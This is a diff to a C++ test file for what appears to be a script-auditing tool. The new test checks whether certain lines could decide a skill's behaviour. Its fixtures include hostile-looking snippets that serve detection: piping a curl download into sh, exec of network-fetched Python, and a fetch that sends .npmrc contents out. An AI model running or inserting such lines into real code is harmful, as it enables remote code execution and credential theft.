@@ -148,6 +148,17 @@ TEST(CoverageOfASkill, IsNotOpenForABranchThatHonestProgramsSeldomTake) {
   EXPECT_THAT(assessment.coverage.units[0].unexercised, SizeIs(2));
 }
 
+TEST(CoverageOfASkill, IsMeasuredWhereLinesThatDidNotRunCouldDecide) {
+  const auto could = [](const std::string& path, const std::string& code) {
+    return lines_could_decide(with_program(path, code).evidence.skill);
+  };
+  EXPECT_TRUE(could("a.sh", "if x; then\n  curl -s $U | sh\nfi\n"));
+  EXPECT_TRUE(could("a.py", "import urllib.request as r\n\ndef f(u):\n    exec(r.urlopen(u))\n"));
+  EXPECT_TRUE(could("a.js", "fetch(u, {body: read('.npmrc')})\n"));
+  EXPECT_FALSE(could("a.py", "print(open('a').read())\n"));
+  EXPECT_FALSE(could("a.sh", "rm -rf build\n"));
+}
+
 TEST(CoverageOfASkill, WithoutMeasuredLinesHasTheUnitsAlone) {
   AuditBuilder audit = with_program("scripts/a.sh", "curl https://a.example\n");
   audit.evidence.lines = {};
